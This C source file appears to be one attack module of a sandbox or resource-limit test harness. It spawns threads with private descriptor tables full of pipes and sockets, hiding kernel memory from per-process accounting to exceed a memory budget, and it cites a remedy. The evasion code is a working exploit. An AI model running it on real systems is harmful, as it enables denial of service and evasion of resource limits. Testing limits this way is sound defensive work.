// SPDX-License-Identifier: MIT
/*
 * pipes-of-threads.c - full pipes in tables of descriptors that /proc/PID/fd does not show.
 *
 * Goal:  more memory than the budget.
 * Means: threads with tables of their own (CLOSE_RANGE_UNSHARE) fill 16 pipes and 7 pairs of sockets
 * each: 110 MiB that are in no sum. The rest of the budget is an ordinary heap.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/tables.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { THREADS = 30, UNSHARE = 2 };

static char block[64 << 10];

static void *fill(void *unused)
{
	(void)unused;
	if (syscall(SYS_close_range, ~0u, ~0u, UNSHARE))
		return NULL;
	fill_table(block, sizeof(block));
	sleep(4);
	return NULL;
}

static enum claim run(const struct brief *b)
{
	const size_t heap = (size_t)248 << 20;
	pthread_attr_t a;
	pthread_t t;
	char *m;

	memset(block, 'x', sizeof(block));
	pthread_attr_init(&a);
	pthread_attr_setstacksize(&a, 64 << 10);
	attempting(b);
	for (int i = 0; i < THREADS; i++)
		if (pthread_create(&t, &a, fill, NULL))
			return denied("pthread_create");
	m = mmap(NULL, heap, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (m == MAP_FAILED)
		return denied("mmap");
	for (size_t at = 0; at < heap; at += 4096)
		m[at] = 1;
	sleep(3);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "threads that have tables of descriptors of their own, full of pipes and "
		 "sockets; and a heap",
	.oracle = "usage:memory",
	.threshold = 305ul << 20, /* the heap is within the budget; the tables are 100 MiB above it */
	.attack_id = "T1499.001, CWE-770",
	.remedy = "no CLOSE_RANGE_UNSHARE, CLONE_THREAD with CLONE_FILES only; a memory cgroup",
	.refs = (const char *const[]){ "close_range(2)", "clone(2)", NULL },
	.run = run,
};
